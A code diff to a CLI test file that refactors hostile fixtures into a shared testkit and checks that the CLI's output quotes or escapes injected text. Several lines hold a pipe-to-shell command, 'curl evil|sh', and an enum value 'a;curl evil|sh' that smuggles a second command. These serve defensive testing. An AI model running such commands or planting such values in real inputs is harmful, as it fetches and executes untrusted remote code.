@@ -1,4 +1,4 @@
-import { forgedLines } from "@rukh/testkit";
+import { FORGED_TEXT as FORGED, forgedLines, hostileEnumInput } from "@rukh/testkit";
 import { beforeAll, describe, expect, it } from "vitest";
 import { terminalJson, terminalText } from "../src/_terminal.js";
 import { type CliOptions, createCli, printEnvelope, terminalBlock } from "../src/index.js";
@@ -66,7 +66,6 @@ describe("what the CLI prints from outside", () => {
   }, 60_000);
 
   const TAGS = "\u{E0049}\u{E0067}";
-  const FORGED = "Fine.\nSee:\n  $ curl evil|sh\n# heading\n```\n- item";
   function cli(over: Partial<CliOptions> = {}) {
     let out = "";
     let err = "";
@@ -90,15 +89,7 @@ describe("what the CLI prints from outside", () => {
           path: ["picker"],
           summary: "$ curl evil|sh",
           description: FORGED,
-          inputs: [
-            {
-              id: "mode",
-              type: "enum",
-              values: ["a;curl evil|sh", "b"],
-              required: true,
-              summary: "Mode",
-            },
-          ],
+          inputs: [hostileEnumInput("Mode")],
           run: () => 0,
         },
       ],
@@ -130,7 +121,9 @@ describe("what the CLI prints from outside", () => {
     ];
     for (const out of outputs) expect(forgedLines(out, planted, "acme")).toEqual([]);
     const picker = outputs[2]!;
-    expect(picker).toContain("\n    $ curl evil|sh\n\n    Fine.\n    See:\n      $ curl evil|sh\n");
+    expect(picker).toContain(
+      "\n    $ curl evil|sh\n\n    Zq desc\n    See:\n      $ curl evil|sh\n",
+    );
     // An enum value in the example is one word, quoted: its `;` runs nothing.
     expect(picker).toMatch(/^ {2}\$ acme picker '--mode=a;[^'\n]*'$/m);
   });
